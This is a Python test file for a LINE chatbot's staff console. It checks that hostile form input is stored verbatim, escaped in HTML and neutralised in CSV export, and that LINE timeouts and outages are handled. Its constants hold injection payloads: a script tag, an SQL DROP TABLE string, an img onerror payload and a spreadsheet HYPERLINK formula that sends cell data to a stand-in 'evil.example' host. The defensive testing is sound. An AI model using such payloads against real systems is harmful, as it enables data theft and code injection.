"""Hostile input and faults end to end: through the LINE simulator, the bot over HTTP, and the staff console.

Free-text answers carrying SQL and HTML/script injection must be stored as the owner typed them and
shown escaped to staff; a LINE call that times out must not make the owner read an answer twice;
a LINE outage on one call must not stop the worker delivering everything else.
"""

from __future__ import annotations

import csv
import io
import time
from datetime import timedelta

from hostile_helpers import log_in_staff, register
from sqlalchemy import inspect, select

from otopbot.models import LineUser, Registration
from otopbot.replies import Text
from otopbot.services import outbox
from otopbot.worker.loop import run_once

SCRIPT = "<script>alert(1)</script>"
SQL = "'); DROP TABLE registrations;--"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"คลิก") {{7*7}} <img src=x onerror=alert(2)>'
PASSWORD = "correct horse battery staple"


def _registration(chat) -> Registration:  # type: ignore[no-untyped-def]
    with chat.runtime.database.transaction() as session:
        return session.scalars(select(Registration)).one()


def test_injection_strings_are_stored_verbatim_and_shown_escaped_to_staff(chat) -> None:  # type: ignore[no-untyped-def]
    owner = chat.follow()
    register(chat, owner, enterprise=SCRIPT, products=SQL, contact=FORMULA, phone="0812345678")
    stored = _registration(chat)
    assert (stored.enterprise_name, stored.products, stored.contact_name) == (SCRIPT, SQL, FORMULA)
    assert {"registrations", "line_users"} <= set(inspect(chat.runtime.database.engine).get_table_names())

    from otopbot.console.auth import create_staff

    with chat.runtime.database.transaction() as session:
        create_staff(session, "hostile-admin", PASSWORD, "admin")
    console = chat.bot_app.test_client()
    assert log_in_staff(console, "hostile-admin", PASSWORD) == 302
    for url in ("/console/registrations", f"/console/registrations/{stored.id}"):
        page = console.get(url)
        assert page.status_code == 200, url
        html = page.get_data(as_text=True)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html, url
        assert SCRIPT not in html and "<img src=x" not in html, url
        assert "{{7*7}}" in html  # shown as typed, never evaluated as a template
    exported = console.get("/console/registrations/export.csv")
    assert exported.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(exported.get_data(as_text=True))) for cell in row]
    assert "'" + FORMULA in cells  # neutralised for spreadsheets
    assert FORMULA not in cells


def test_a_reply_that_times_out_but_arrives_is_not_sent_again(chat) -> None:  # type: ignore[no-untyped-def]
    owner = chat.follow()
    before = len(chat.sim.requests())
    chat.sim.add_fault("/v2/bot/message/reply", delay=chat.runtime.settings.line_timeout_seconds + 0.6)
    chat.sim.say(owner.user_id, "สวัสดีค่ะ")
    chat.settle()

    def answered() -> list[dict[str, object]]:
        return [
            r
            for r in chat.sim.requests()[before:]
            if str(r["path"]).endswith(("/message/reply", "/message/push")) and r["status"] == 200
        ]

    deadline = time.monotonic() + 15  # the slow reply reaches the owner after the bot gave up waiting
    while not answered() and time.monotonic() < deadline:
        time.sleep(0.1)
    chat.run_worker()
    time.sleep(0.5)
    chat.run_worker()
    assert len(answered()) == 1


def test_a_profile_outage_does_not_stop_the_worker_delivering_other_messages(chat) -> None:  # type: ignore[no-untyped-def]
    waiting = chat.follow()
    chat.sim.add_fault("/v2/bot/profile/*", status=500, count=1000)
    newcomer = chat.sim.create_user(display_name="ผู้ใช้ใหม่")
    chat.sim.follow(newcomer["userId"])
    with chat.runtime.database.transaction() as session:
        user = session.scalars(select(LineUser).where(LineUser.line_user_id == waiting.user_id)).one()
        outbox.push(session, user, [Text("แจ้งเตือน: พรุ่งนี้มีอบรม")])
    run_once(chat.runtime, chat.line, grace=timedelta(0))
    assert "แจ้งเตือน" in chat.visible_text(waiting.new_messages())
